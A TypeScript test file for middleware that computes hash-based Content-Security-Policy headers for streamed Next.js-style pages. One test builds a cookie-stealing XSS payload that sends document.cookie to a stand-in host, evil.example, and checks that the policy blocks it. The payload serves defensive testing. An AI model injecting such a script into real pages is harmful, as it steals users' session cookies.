import { createHash } from 'node:crypto';
import { addPolicies, withPolicy } from './page-policy';
import { completeHeaders } from './response-headers';
import { serve } from './testing/serve';

const data = 'self.__next_f.push([1,"ह"])';
const rest = 'self.__next_f.push([1,"ाट"])';
const page = `<!DOCTYPE html><h1>हाट</h1><script>${data}</script><script>${rest}</script>`;
const sent = `<!DOCTYPE html><h1>हाट</h1><script>${data};${rest}</script>`;

/** Stands for Next: streams a page in parts that end within a character and within a script. */
const site = serve((request, response) => {
  completeHeaders(response);
  addPolicies(request, response);
  const [path, given] = (request.url ?? '').split('?');
  if (given) response.setHeader('Content-Security-Policy', decodeURIComponent(given));
  if (path === '/304') return response.writeHead(304).end();
  if (path === '/to') return response.writeHead(307, { Location: '/there' }).end();
  response.setHeader('Content-Type', path === '/text' ? 'text/plain' : 'text/html; charset=utf-8');
  const bytes = Buffer.from(page);
  if (path === '/with-length') response.setHeader('Content-Length', bytes.length);
  if (path === '/error') response.writeHead(500, { 'x-of': 'next' });
  for (let at = 0; at < bytes.length; at += 7) response.write(bytes.subarray(at, at + 7));
  return response.end();
});

const get = async (path: string, method = 'GET') => {
  const answer = await fetch(site.origin + path, { method, redirect: 'manual' });
  const policy = answer.headers.get('content-security-policy') ?? '';
  const scripts = policy.split('; ').find((part) => part.startsWith('script-src ')) ?? '';
  return { answer, policy, scripts, text: await answer.text() };
};

const sourceOf = (script: string) =>
  `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

it.each(['/', '/with-length', '/error'])(
  'allows the scripts of a page and no others: %s',
  async (path) => {
    const { answer, scripts, text } = await get(path);
    expect(text).toBe(sent);
    expect(scripts).toBe(`script-src 'self' ${sourceOf(`${data};${rest}`)}`);
    expect(answer.status).toBe(path === '/error' ? 500 : 200);
  },
);

it('does not allow what somebody puts into a page that is kept', () => {
  const { html, policy } = withPolicy(page);
  const smuggled = 'fetch("//evil.example/"+document.cookie)';
  for (const changed of [
    `${html}<script>${smuggled}</script>`,
    html.replace(rest, `${rest};${smuggled}`),
  ]) {
    const scripts = [...changed.matchAll(/<script>(.*?)<\/script>/g)].map(([, text]) => text ?? '');
    expect(scripts.every((text) => policy.includes(sourceOf(text)))).toBe(false);
  }
  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
});

it.each([
  ["/?script-src 'nonce-a'", "script-src 'nonce-a'"],
  ['/text', "script-src 'self'"],
])('leaves alone what has a policy or is no page: %s', async (path, scripts) => {
  const { policy, text } = await get(path);
  expect(text).toBe(page);
  expect(policy).toContain(scripts);
});

it('puts no policy in place of the one that a browser has with its page', async () => {
  expect((await get('/304')).policy).toBe('');
});

it('answers a redirect and HEAD without a page', async () => {
  const { answer } = await get('/to');
  expect([answer.status, answer.headers.get('location')]).toEqual([307, '/there']);
  expect((await get('/', 'HEAD')).scripts).toBe("script-src 'self'");
});
